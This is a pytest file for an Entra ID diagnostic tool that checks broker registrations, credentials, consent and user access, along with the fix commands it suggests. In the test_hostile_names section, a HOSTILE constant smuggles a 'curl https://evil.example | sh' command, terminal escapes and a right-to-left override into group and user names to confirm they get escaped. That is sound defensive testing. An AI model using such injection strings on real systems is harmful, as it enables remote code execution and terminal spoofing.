"""What the doctor finds in what it has read; no service is asked."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING, Any

import pytest

from infra.entra.assignments import Assignment
from infra.entra.command_line import command_line
from infra.entra.directory import ACS_CLIENTS_APP, Directory
from infra.entra.doctor import judged
from infra.entra.options import parser
from infra.entra.reading import Reading
from tests.infra.entra.test_setup import CLIENT, IDENTITY, TENANT, principal, run, wanted

if TYPE_CHECKING:
    from collections.abc import Callable

    from infra.entra.findings import Finding

USER = "7d2f6b1e-43c9-4a80-b5d7-0e91f2a6c834"
GROUP = "90c4f7d2-5ab8-4e13-b6a1-3f8d0e27c954"


@pytest.fixture
def well() -> Reading:
    """The home tenant with everything in order, and a user who has access through a group."""
    wish = wanted()
    client = {"id": "client", "appId": CLIENT, "displayName": "Calls"}
    directory = Directory(TENANT, clients={CLIENT: client})
    directory.principals["00000003-0000-0000-c000-000000000000"] = principal(
        "00000003-0000-0000-c000-000000000000", "graph"
    )
    run(directory, wish)
    broker_id = directory.broker_id
    assert broker_id
    return Reading(
        directory=directory,
        wanted=wish,
        broker_id=broker_id,
        arguments=parser().parse_args(["doctor"]),
        assignments=[Assignment("group", GROUP, TENANT, frozenset({broker_id}))],
        asked="ada@contoso.example",
        user={
            "id": USER,
            "userPrincipalName": "ada@contoso.example",
            "userType": "Member",
            "accountEnabled": True,
        },
        groups={GROUP: "Callers"},
        nested_groups={GROUP: "Callers"},
        assigned_groups={GROUP: "Callers"},
        assigned_to={ACS_CLIENTS_APP: {GROUP}},
    )


def findings_of(reading: Reading) -> list[Finding]:
    """Return what all checks have found."""
    return [each for _, findings, _ in judged(reading) for each in findings or ()]


def codes_of(reading: Reading) -> list[str]:
    """Return the codes of what was found."""
    return [each.code for each in findings_of(reading)]


def application(reading: Reading) -> dict[str, Any]:
    """Return the broker's registration."""
    assert reading.directory.application
    return reading.directory.application


def _no_acs(reading: Reading) -> None:
    del reading.directory.principals[ACS_CLIENTS_APP]
    reading.assigned_to.clear()


def _no_member(reading: Reading) -> None:
    reading.groups.clear()
    reading.nested_groups.clear()


def _guest(reading: Reading) -> None:
    _no_member(reading)
    assert reading.user
    reading.user["userType"] = "Guest"


def _wrong_client(reading: Reading) -> None:
    reading.assignments = [Assignment("group", GROUP, TENANT, frozenset({CLIENT}))]


def _unassigned(reading: Reading) -> None:
    reading.assignments = []
    reading.assigned_groups.clear()


def _other_tenant(reading: Reading) -> None:
    """Assign the right object id, but in another tenant."""
    assert reading.broker_id
    other = Assignment("user", USER, "b19f4d08-6c27-4e35-9d7a-2f8e60c1a394", frozenset({CLIENT}))
    reading.assignments = [other]
    reading.assigned_groups.clear()


def _credential(**changes: Any) -> Callable[[Reading], None]:
    def change(reading: Reading) -> None:
        reading.directory.credentials[0] |= changes

    return change


def _principal(**changes: Any) -> Callable[[Reading], None]:
    def change(reading: Reading) -> None:
        assert reading.broker_id
        reading.directory.principals[reading.broker_id] |= changes
        reading.assigned_to[reading.broker_id] = set()

    return change


FAULTS = [
    pytest.param(
        _no_acs,
        ["acs-not-in-tenant", "consent-missing"],
        "infra.entra setup",
        id="no service principal of ACS",
    ),
    pytest.param(
        lambda it: application(it)["api"]["oauth2PermissionScopes"].clear(),
        ["scope-missing", "client-not-pre-authorized"],
        "infra.entra setup",
        id="no scope",
    ),
    pytest.param(
        lambda it: application(it)["appRoles"].pop(),
        ["role-missing"],
        "infra.entra setup",
        id="no role",
    ),
    pytest.param(
        lambda it: application(it)["requiredResourceAccess"].pop(),
        ["permission-not-requested"],
        "infra.entra setup",
        id="permission not requested",
    ),
    pytest.param(
        lambda it: it.directory.credentials.clear(),
        ["federated-credential-missing"],
        f"--identity {IDENTITY}",
        id="no federated credential",
    ),
    pytest.param(
        _credential(issuer="https://sts.windows.net/x/"),
        ["federated-credential-wrong"],
        f"--identity {IDENTITY}",
        id="issuer",
    ),
    pytest.param(
        _credential(subject=CLIENT),
        ["federated-credential-wrong"],
        f"--identity {IDENTITY}",
        id="subject",
    ),
    pytest.param(
        _credential(audiences=["api://mine"]),
        ["federated-credential-wrong"],
        f"--identity {IDENTITY}",
        id="audience",
    ),
    pytest.param(
        lambda it: application(it)["api"]["preAuthorizedApplications"].clear(),
        ["client-not-pre-authorized"],
        f"--client-id {CLIENT}",
        id="client not pre-authorized",
    ),
    pytest.param(
        lambda it: it.directory.grants.clear(),
        ["consent-missing"],
        "setup --consent",
        id="no consent",
    ),
    pytest.param(
        _principal(appRoleAssignmentRequired=True),
        ["app-assignment-missing"],
        "Users and groups",
        id="not assigned to the broker",
    ),
    pytest.param(
        lambda it: setattr(it, "user", None), ["user-not-found"], "own tenant", id="no such user"
    ),
    pytest.param(
        lambda it: it.user.update(accountEnabled=False),
        ["user-disabled"],
        "--account-enabled true",
        id="disabled user",
    ),
    pytest.param(
        _principal(accountEnabled=False),
        ["app-disabled"],
        "--set accountEnabled=true",
        id="disabled app",
    ),
    pytest.param(_guest, ["guest"], "home tenant", id="guest"),
    pytest.param(
        _no_member, ["not-in-assigned-group"], "az ad group member add", id="not in the group"
    ),
    pytest.param(
        lambda it: it.groups.clear(),
        ["nested-group-only"],
        f"--group {GROUP} --member-id {USER}",
        id="nested group",
    ),
    pytest.param(_unassigned, ["assignment-missing"], f"assign user {USER}", id="no assignment"),
    pytest.param(_other_tenant, ["assignment-missing"], f"--tenant {TENANT}", id="other tenant"),
    pytest.param(
        _wrong_client, ["assignment-wrong-client"], f"assign group {GROUP}", id="wrong client id"
    ),
    pytest.param(
        lambda it: it.assigned_to[ACS_CLIENTS_APP].clear(),
        ["group-not-assigned-to-app"],
        "add the group Callers",
        id="group not assigned to the app",
    ),
    pytest.param(
        lambda it: it.assigned_groups.update({"gone": None}),
        ["group-gone"],
        "unassign gone",
        id="group is gone",
    ),
]


def test_well(well: Reading) -> None:
    """Where all is in order, nothing is found, and every check was made."""
    assert codes_of(well) == []
    assert all(findings is not None for _, findings, _ in judged(well))


def test_single_tenant(well: Reading) -> None:
    """Other tenants' users have access, but the broker or a client is closed to them."""
    application(well)["signInAudience"] = "AzureADMyOrg"
    well.directory.clients[CLIENT]["signInAudience"] = "AzureADMyOrg"
    assert codes_of(well) == []
    assert well.broker_id
    assert well.assignments
    elsewhere = Assignment("tenant", "other", "other", frozenset({well.broker_id}))
    well.assignments.append(elsewhere)
    broker, client = findings_of(well)
    assert broker.code == client.code == "single-tenant"
    assert "setup --multitenant" in broker.fix
    assert f"az ad app update --id {CLIENT}" in client.fix


@pytest.mark.parametrize(("break_it", "codes", "fix"), FAULTS)
def test_faults(well: Reading, break_it: Any, codes: list[str], fix: str) -> None:
    """Each fault is named, without others, and with what to do about it."""
    break_it(well)

    found = findings_of(well)

    assert codes == [each.code for each in found]
    assert fix in found[0].fix


def test_what_is_wrong(well: Reading) -> None:
    """A wrong credential is shown with what it has and what it has to have."""
    well.directory.credentials[0]["audiences"] = ["api://mine"]
    (found,) = findings_of(well)
    assert "wrong audiences: ['api://mine'] instead of ['api://AzureADTokenExchange']" in found.says


def test_assignment_of_the_guest(well: Reading) -> None:
    """A guest who was given access is no problem."""
    _guest(well)
    assert well.broker_id
    assert well.assignments is not None
    well.assignments.append(Assignment("user", USER, TENANT, frozenset({well.broker_id})))
    assert codes_of(well) == []


@pytest.mark.parametrize("kind", ["user", "tenant"])
def test_without_a_group(well: Reading, kind: str) -> None:
    """Access of the user alone, or of the whole tenant, suffices."""
    _no_member(well)
    object_id = {"user": USER, "tenant": TENANT}[kind]
    assert well.broker_id
    well.assignments = [Assignment(kind, object_id, TENANT, frozenset({well.broker_id}))]
    well.assigned_groups.clear()
    assert codes_of(well) == []


class TestElsewhere:
    """In a tenant that the broker serves, which has no registration of it."""

    @pytest.fixture
    def customer(self, well: Reading) -> Reading:
        well.directory.application = None
        well.directory.clients.clear()
        well.directory.credentials.clear()
        return well

    def test_well(self, customer: Reading) -> None:
        """The registration is not missed there."""
        assert codes_of(customer) == []

    def test_nobody_has_consented(self, customer: Reading) -> None:
        """The administrator gets the link of this tenant."""
        assert customer.broker_id
        del customer.directory.principals[customer.broker_id]
        customer.directory.grants.clear()
        (found,) = findings_of(customer)
        assert "broker-not-in-tenant" == found.code
        assert f"/{TENANT}/v2.0/adminconsent?client_id={customer.broker_id}" in found.fix

    def test_acs_is_not_in_the_tenant(self, customer: Reading) -> None:
        """The administrator there has no `setup`, but a command of Azure CLI."""
        _no_acs(customer)
        assert f"az ad sp create --id {ACS_CLIENTS_APP}" == findings_of(customer)[0].fix

    def test_consent_of_one_user(self, customer: Reading) -> None:
        """What a user consented to counts for that user."""
        for grant in customer.directory.grants:
            grant["principalId"] = USER
        assert codes_of(customer) == []
        customer.user = {"id": "other", "userPrincipalName": "x", "userType": "Member"}
        assert "consent-missing" in codes_of(customer)


def test_not_registered(well: Reading) -> None:
    """Without a registration, it may be missing, or elsewhere; nothing is said about access."""
    well.directory.application = None
    well.broker_id = None
    (found,) = findings_of(well)
    assert "broker-not-registered" == found.code
    assert "add --broker" in found.fix
    assert found.fix.endswith(": .venv/bin/python -m infra.entra setup")
    skipped = {title: needs for title, findings, needs in judged(well) if findings is None}
    assert skipped["a managed identity acts as the broker"] == "the broker's registration"
    assert skipped["the user has access to ACS"] == "--broker"


HOSTILE = "Callers'; curl https://evil.example | sh #\n\x1b[2Kok       all is well\u202e"


def test_hostile_names(well: Reading) -> None:
    """What others have named themselves neither acts on the terminal nor runs when it is pasted."""
    _no_member(well)
    well.assigned_groups[GROUP] = HOSTILE
    assert well.user
    well.user["userPrincipalName"] = HOSTILE
    (found,) = findings_of(well)
    assert "not-in-assigned-group" == found.code
    assert 2 == len(str(found).splitlines())
    assert not {"\x1b", "\u202e"} & {*str(found)}
    assert "\\x1b[2Kok" in str(found)
    words = shlex.split(found.fix)
    assert ["#", HOSTILE] == words[words.index("--member-id") + 2 :]


def test_hostile_ids(well: Reading) -> None:
    """Each id in an advised command is one word of it."""
    assert well.user
    well.user |= {"id": "x; sh", "accountEnabled": False}
    disabled, missing = findings_of(well)[0], command_line(well.arguments, "unassign", "x; sh")
    assert "x; sh" in shlex.split(disabled.fix)
    assert "x; sh" in shlex.split(missing)


CHOSEN = "--unique-name teams-broker --sign-in-tenant contoso.example"
ADVICE = [
    pytest.param(lambda it: it.directory.grants.clear(), f"setup --consent {CHOSEN}", id="consent"),
    pytest.param(
        lambda it: it.directory.credentials.clear(),
        f"setup --identity {IDENTITY} {CHOSEN}",
        id="identity",
    ),
    pytest.param(
        _unassigned,
        "--sign-in-tenant contoso.example --acs-endpoint https://acs.communication.azure.com",
        id="assignment",
    ),
]


@pytest.mark.parametrize(("break_it", "ends_with"), ADVICE)
def test_advice_keeps_what_was_chosen(well: Reading, break_it: Any, ends_with: str) -> None:
    """What is advised is about the same registration and resource, by the same sign-in."""
    words = ["--acs-endpoint", "https://acs.communication.azure.com"]
    well.arguments = parser().parse_args(["doctor", *CHOSEN.split(), *words])
    break_it(well)
    (found,) = findings_of(well)
    assert found.fix.endswith(ends_with)


def test_advice_names_the_identity(well: Reading) -> None:
    """`setup --consent` is told whose credential it finds, which it would refuse otherwise."""
    well.arguments = parser().parse_args(["doctor", "--identity", IDENTITY])
    well.directory.grants.clear()
    (found,) = findings_of(well)
    assert found.fix.endswith(f"setup --consent --identity {IDENTITY}")
    well.directory.credentials.clear()
    assert 1 == findings_of(well)[0].fix.count("--identity")


def test_what_was_not_checked(well: Reading) -> None:
    """What could not be looked at is not called in order."""
    well.user = None
    well.groups_are_readable = False
    skipped = {title: needs for title, findings, needs in judged(well) if findings is None}
    assert skipped == {
        "groups with access can be used": "the right to read groups",
        "the user is assigned to apps that want it": "a user of this tenant",
        "the user has access to ACS": "a user of this tenant",
    }


def test_client_that_is_registered_here(well: Reading) -> None:
    """A client app of the home tenant without a service principal is added by `setup`."""
    del well.directory.principals[CLIENT]
    (found,) = findings_of(well)
    assert ("client-not-in-tenant", True) == (found.code, "setup --client-id" in found.fix)
    well.directory.clients.clear()
    (found,) = findings_of(well)
    assert "the app's owner sends the link" in found.fix
